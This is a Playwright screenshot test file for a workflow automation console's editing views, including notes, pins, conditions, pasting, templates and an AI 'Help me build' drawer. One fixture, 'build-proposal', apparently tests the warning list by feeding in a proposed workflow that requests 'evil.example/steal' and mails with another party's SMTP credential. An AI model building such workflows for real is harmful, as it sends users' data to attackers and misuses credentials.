/** The pictures of editing: notes, disabled steps, pins, conditions, the gallery, pasting and publishing. */
import type { Page } from 'playwright-core';
import { edgeOf } from '../support/console/canvasSteps.ts';
import { DESK } from '../support/console/editorViews.ts';
import { canvasOpened, openNode, openOutput, panelOf } from '../support/console/steps.ts';
import { ALL, BOTH, type Shot } from './shot.ts';

const SHOP = '/console/p/shop';
const at = (workflow: string) => `${SHOP}/workflows/${workflow}`;

const fit = (page: Page) => page.getByRole('button', { name: /^Fit the workflow/ }).click();

const opened = async (page: Page, node = 'trigger'): Promise<void> => {
  await canvasOpened(page, node);
  await fit(page);
};

/** The note whose text begins so. */
const note = (page: Page, text: string) => page.getByRole('note', { name: new RegExp(`^Note: ${text}`) });

/** Opens the gallery behind the first node, and searches. */
const searched = (text: string) => async (page: Page) => {
  await opened(page);
  await page.getByRole('button', { name: 'Add a node after trigger', exact: true }).click();
  const field = page.getByLabel('Search nodes');
  await field.fill(text);
  await page.getByRole('group', { name: 'Node types' }).waitFor();
};

/** The panel of the connection to this node. */
const connection = (to: string) => async (page: Page) => {
  await opened(page, to);
  await edgeOf(page, 'trigger', to).click({ force: true });
  const panel = page.getByRole('complementary', { name: 'Connection' });
  await panel.getByRole('button', { name: 'Remove connection' }).waitFor();
};

const pasted = (text: string) => async (page: Page) => {
  await opened(page);
  await page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(text)})`);
  await page.locator('.react-flow__pane').click({ position: { x: 8, y: 8 } });
  await page.keyboard.press('ControlOrMeta+v');
};

/** Describes something to this model. */
const asked = async (page: Page, model: string, text = 'Send a mail for each large order.') => {
  await opened(page);
  await page.getByRole('button', { name: 'Help me build', exact: true }).click();
  const drawer = page.getByRole('dialog', { name: 'Help me build' });
  await drawer.getByRole('textbox', { name: 'What should the workflow do?' }).fill(text);
  const credential = drawer.getByRole('combobox', { name: 'Credential' });
  if ((await credential.inputValue()) !== 'model') {
    await credential.click();
    await page.getByRole('option', { name: 'model', exact: true }).click();
  }
  const field = drawer.getByLabel('Model', { exact: true });
  await field.fill(model);
  await field.blur();
};

const palette = (text: string) => async (page: Page) => {
  await opened(page);
  await page.keyboard.press('ControlOrMeta+k');
  await page.getByLabel('Search everything').fill(text);
  await page.getByRole('group', { name: 'Results' }).waitFor();
};

const shot = (name: string, workflow: string, ready: Shot['ready'], more: Partial<Shot> = {}): Shot => ({
  name,
  path: at(workflow),
  who: 'editor',
  appearances: ALL,
  ready,
  ...more,
});

export const EDITING: readonly Shot[] = [
  shot('notes', DESK.notes, (page) => opened(page)),
  shot('note-tools', DESK.notes, async (page) => {
    await opened(page);
    await note(page, 'Before').click();
    await page.getByRole('toolbar', { name: 'Note' }).waitFor();
  }),
  shot('note-edited', DESK.notes, async (page) => {
    await opened(page);
    await note(page, 'Before').dblclick();
    await page.getByRole('textbox', { name: /note/i }).waitFor();
  }),
  shot(
    'notes-reader',
    DESK.notes,
    async (page) => {
      await page.getByRole('note').first().waitFor();
      await fit(page);
    },
    { who: 'reader' },
  ),
  shot('disabled', DESK.conditions, async (page) => {
    await openNode(page, 'remind');
    await panelOf(page)
      .getByRole('button', { name: /enable/i })
      .first()
      .waitFor();
  }),
  shot('pin', DESK.pins, async (page) => {
    await openNode(page, 'make');
    await openOutput(page);
    await panelOf(page).getByRole('group', { name: 'Pinned output' }).waitFor();
  }),
  shot('pin-invalid', DESK.pins, async (page) => {
    await openNode(page, 'make');
    await openOutput(page);
    const field = panelOf(page).getByRole('textbox', { name: 'Pinned output of make' });
    await field.click();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.insertText('{"data_content": {"status": 20');
    await panelOf(page).getByText('Invalid JSON').waitFor();
  }),
  shot('test-run-pins', DESK.pins, async (page) => {
    await opened(page);
    await page.getByRole('button', { name: 'Test run', exact: true }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText('pinned outputs:').waitFor();
    await dialog.getByRole('textbox', { name: 'Test data' }).waitFor();
  }),
  shot('gallery', DESK.conditions, searched('')),
  shot('gallery-synonym', DESK.conditions, searched('if')),
  shot('gallery-no-hit', DESK.conditions, searched('salesforce')),
  shot('switch', DESK.conditions, async (page) => {
    await searched('switch')(page);
    await page.getByRole('option', { name: 'Switch' }).first().click();
    await page.getByRole('heading', { name: /^Switch after/ }).waitFor();
  }),
  shot('condition', DESK.conditions, connection('large')),
  shot('condition-otherwise', DESK.conditions, connection('rest')),
  shot('condition-cel', DESK.conditions, async (page) => {
    await connection('odd')(page);
    const panel = page.getByRole('complementary', { name: 'Connection' });
    await panel.getByText('Conditions cannot show this expression.').waitFor();
  }),
  shot('condition-operators', DESK.conditions, async (page) => {
    await connection('large')(page);
    await page
      .getByRole('combobox', { name: 'Operator 1', exact: true })
      .or(page.getByRole('textbox', { name: 'Operator 1', exact: true }))
      .first()
      .click();
    await page.getByRole('option').first().waitFor();
  }),
  shot('condition-fields', DESK.conditions, async (page) => {
    await connection('large')(page);
    await page
      .getByRole('textbox', { name: 'Field 1', exact: true })
      .or(page.getByRole('combobox', { name: 'Field 1', exact: true }))
      .first()
      .click();
    await page.getByRole('option').first().waitFor();
  }),
  shot('paste-curl', DESK.notes, async (page) => {
    await pasted(`curl https://api.example.com/orders -H 'Authorization: Bearer x' -d '{"a": 1}'`)(page);
    await page.getByRole('alert').first().waitFor();
  }),
  shot('paste-n8n', DESK.notes, async (page) => {
    await pasted(
      JSON.stringify({
        nodes: [{ type: 'n8n-nodes-base.set', typeVersion: 1, position: [0, 0], parameters: {}, name: 'a' }],
        connections: {},
      }),
    )(page);
    await page.getByRole('dialog', { name: 'Import from n8n' }).waitFor();
  }),
  shot('palette', DESK.conditions, palette('')),
  shot('palette-hits', DESK.conditions, palette('or')),
  shot('palette-no-hit', DESK.conditions, palette('zzz')),
  shot('build', DESK.conditions, async (page) => {
    await asked(page, 'demo');
    const dialog = page.getByRole('dialog');
    await dialog.getByText('Show what is sent').click();
    await dialog.getByRole('region', { name: 'What is sent' }).waitFor();
  }),
  shot('build-failed', DESK.conditions, async (page) => {
    await asked(page, 'error-500');
    await page.getByRole('button', { name: 'Propose' }).click();
    await page.getByRole('dialog').getByRole('alert').waitFor();
  }),
  shot(
    'build-waiting',
    DESK.conditions,
    async (page) => {
      await asked(page, 'hang');
      await page.getByRole('button', { name: 'Propose' }).click();
      await page.getByText('Waiting for the model').waitFor();
    },
    { isBusy: true },
  ),
  shot('build-proposal', DESK.conditions, async (page) => {
    const url = 'https://evil.example/steal?what=';
    const nodes = [
      { id: 'trigger', manual: {} },
      { id: 'ask', skill: { name: 'http_request', parameters: { method: 'GET', url } } },
      { id: 'mail', skill: { name: 'send_email', credential: 'smtp-of-others', cc: 'x' } },
    ];
    await asked(page, 'demo', `say ${JSON.stringify({ nodes })}`);
    await page.getByRole('button', { name: 'Propose' }).click();
    await page.getByRole('list', { name: 'What to check' }).waitFor();
    await page.getByRole('textbox', { name: 'Proposal' }).waitFor();
  }),
  shot('problems', DESK.broken, async (page) => {
    await opened(page, 'mail');
    await page.getByRole('button', { name: 'Test run', exact: true }).click();
    await page.getByRole('list', { name: 'Problems of the draft' }).waitFor();
  }),
  shot('publish-problems', DESK.broken, async (page) => {
    await opened(page, 'mail');
    await page.getByRole('button', { name: 'Publish', exact: true }).click();
    await page.getByRole('list', { name: 'Problems' }).waitFor();
    await page.locator('[data-card="mail"][data-problem]').waitFor();
  }),
  shot('versions-compared', DESK.versions, async (page) => {
    await opened(page);
    await page.getByRole('button', { name: 'Versions' }).click();
    const drawer = page.getByRole('dialog', { name: 'Versions' });
    await drawer.getByRole('checkbox').nth(1).waitFor();
    for (const box of await drawer.getByRole('checkbox').all()) await box.check();
    await drawer
      .getByLabel(/^Published · /)
      .getByText('store')
      .first()
      .waitFor();
  }),
  {
    name: 'labels',
    path: `${SHOP}/workflows`,
    who: 'editor',
    appearances: ALL,
    ready: async (page) => {
      await page.getByRole('combobox', { name: 'Label' }).click();
      await page.getByRole('option').first().waitFor();
    },
  },
  {
    name: 'templates-no-hit',
    path: `${SHOP}/templates`,
    who: 'editor',
    appearances: ALL,
    ready: async (page) => {
      await page.getByLabel('Search templates').fill('salesforce');
      await page.getByText('No templates match').waitFor();
    },
  },
  {
    name: 'template-credential',
    path: `${SHOP}/templates?template=row-mail`,
    who: 'editor',
    appearances: ALL,
    ready: async (page) => {
      await page
        .getByRole('button', { name: /^New credential for/ })
        .first()
        .click();
      const dialog = page.getByRole('dialog');
      await dialog.getByRole('button', { name: /^Google account/ }).click();
      await dialog.getByRole('textbox', { name: 'Name', exact: true }).waitFor();
    },
  },
  {
    name: 'docs-no-page',
    path: '/console/docs/not-there',
    who: 'editor',
    appearances: ALL,
    ready: (page) => page.getByText('Page not found').waitFor(),
  },
  {
    name: 'docs-no-hit',
    path: '/console/docs/language',
    who: 'editor',
    appearances: BOTH,
    ready: async (page) => {
      await page.getByLabel('Search the documentation').fill('salesforce');
      await page.getByText(/^No title or heading/).waitFor();
    },
  },
  {
    name: 'docs-wide-table',
    path: '/console/docs/console#comparison-with-n8ns-editor',
    who: 'editor',
    appearances: ALL,
    ready: (page) => page.locator('#doc-comparison-with-n8ns-editor').waitFor(),
  },
];
